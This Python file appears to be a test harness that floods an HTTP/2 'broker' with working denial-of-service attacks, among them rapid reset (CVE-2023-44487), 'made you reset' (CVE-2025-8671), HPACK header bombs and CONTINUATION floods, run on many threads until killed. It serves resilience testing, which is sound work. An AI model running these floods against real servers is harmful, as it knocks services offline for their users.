"""Attacks on the broker's door, each a program of its own: `attacks.py NAME PLAN`, PLAN in JSON.

An attack is done by a caller whose certificate is good, again and again, on several connections at a
time. After an empty line of JSON it tells each life of a connection in another: the frames that were sent
on it, the seconds it took, and whether the broker ended it.
"""

import contextlib
import json
import os
import select
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from raw_http2 import REQUEST, Closed, Connection, headers_frame

# Sent between two looks at what the broker makes of it.
BATCH = 50
WINDOW_MAX = 2**31 - 1
_ENCODER = hpack.Encoder()
# A header of 4 KB, and the reference to it.
BOMB, BOMB_AGAIN = [_ENCODER.encode([("x-bomb", "b" * 4000)]) for _ in range(2)]


def rapid_reset(stream):
    """Calls that are taken back at once: CVE-2023-44487."""
    reset = RstStreamFrame(stream, 8).serialize()
    return headers_frame(stream) + reset


def made_you_reset(stream):
    """Calls that the broker has to reset: CVE-2025-8671."""
    overflow = WindowUpdateFrame(stream, WINDOW_MAX).serialize()
    return headers_frame(stream) + overflow


def closed_stream_data(stream):
    """The same by data after the end."""
    data = DataFrame(stream, b"x").serialize()
    return headers_frame(stream, ("END_HEADERS", "END_STREAM")) + data


def half_open(stream):
    """Calls whose request never comes."""
    return headers_frame(stream)


def empty_data(stream):
    data = DataFrame(1, b"").serialize()
    return (headers_frame(1) if stream == 1 else b"") + data


def single_bytes(stream):
    """A request in pieces of a byte, of a message that says it is 16 KiB long."""
    byte = b"\0\0\0\x40\0"[(stream - 1) // 2 :][:1] or b"x"
    return (headers_frame(1) if stream == 1 else b"") + DataFrame(1, byte).serialize()


def padded_data(stream):
    """Data that is padding alone."""
    data = DataFrame(1, b"", pad_length=255, flags=["PADDED"]).serialize()
    return (headers_frame(1) if stream == 1 else b"") + data


def ping(stream):
    return PingFrame(0, stream.to_bytes(8, "big")).serialize()


def settings(stream):
    return SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: stream}).serialize()


def settings_acknowledged(_):
    """Answers to what was never sent."""
    return PingFrame(0, b"\0" * 8, flags=["ACK"]).serialize()


def priority(stream):
    return PriorityFrame(stream, depends_on=0, stream_weight=1).serialize()


def window_update(_):
    return WindowUpdateFrame(0, 1).serialize()


def unknown(_):
    return ExtensionFrame(0xFA, 0, body=b"x" * 32).serialize()


def header_bomb(stream):
    """A byte of the wire that stands for 4 KB of header, thousands of times over."""
    data = REQUEST + (BOMB if stream == 1 else b"") + BOMB_AGAIN * 8000
    return HeadersFrame(stream, data, flags=["END_HEADERS", "END_STREAM"]).serialize()


def continuation(stream):
    """A header block without an end. Nothing else may be sent in between."""
    if stream == 1:
        return HeadersFrame(1, REQUEST, flags=[]).serialize()
    return ContinuationFrame(1, REQUEST[:1] * 8).serialize()


def empty_continuation(stream):
    if stream == 1:
        return HeadersFrame(1, REQUEST, flags=[]).serialize()
    return ContinuationFrame(1, b"").serialize()


FLOODS = [
    rapid_reset,
    made_you_reset,
    closed_stream_data,
    half_open,
    empty_data,
    single_bytes,
    padded_data,
    ping,
    settings,
    settings_acknowledged,
    priority,
    window_update,
    unknown,
    header_bomb,
    continuation,
    empty_continuation,
]


def flood(plan, attack) -> tuple[int, bool]:
    """The frames that were sent on a connection, and whether it was closed before all there are to be."""
    sent = 0
    with Connection(plan["address"], plan["ca"], plan["certificate"], plan["key"]) as connection:
        try:
            connection.open()
            connection.wait_for(lambda frame: isinstance(frame, SettingsFrame))
            while sent < plan["frames_max"]:
                batch = range(sent, sent + BATCH)
                connection.send(b"".join(attack(2 * number + 1) for number in batch))
                sent += BATCH
                if attack in (continuation, empty_continuation):
                    _look(connection)
                else:
                    _await_answer(connection, sent)
        except Closed:
            return sent, True
    return sent, False


def _await_answer(connection, sent) -> None:
    """Waits until the broker has read all of it."""
    asked = b"sync" + sent.to_bytes(4, "big")
    connection.send(PingFrame(0, asked).serialize())
    connection.wait_for(lambda frame: isinstance(frame, PingFrame) and frame.opaque_data == asked)


def _look(connection) -> None:
    """Reads what there is."""
    while connection.socket.pending() or select.select([connection.socket], [], [], 0.02)[0]:
        for _ in connection.frames():
            pass


def _live(plan, life) -> None:
    """Lives one after the other, with a pause, for ever."""
    while True:
        began = time.monotonic()
        with contextlib.suppress(OSError):
            sent, closed = life()
            _tell({"frames": sent, "seconds": time.monotonic() - began, "closed": closed})
        time.sleep(plan["pause_seconds"])


def _tell(what) -> None:
    """In one write: threads share the pipe."""
    os.write(1, (json.dumps(what) + "\n").encode())


def main(name: str, plan: str) -> None:
    """Runs until it is killed, from when it has said that it is there."""
    os.nice(19)
    plan = json.loads(plan)
    attack = {attack.__name__: attack for attack in FLOODS}[name]
    _tell({})
    threads = [
        threading.Thread(target=_live, args=(plan, lambda: flood(plan, attack)))
        for _ in range(plan["parallel"])
    ]
    for thread in threads:
        thread.start()


if __name__ == "__main__":
    main(*sys.argv[1:])
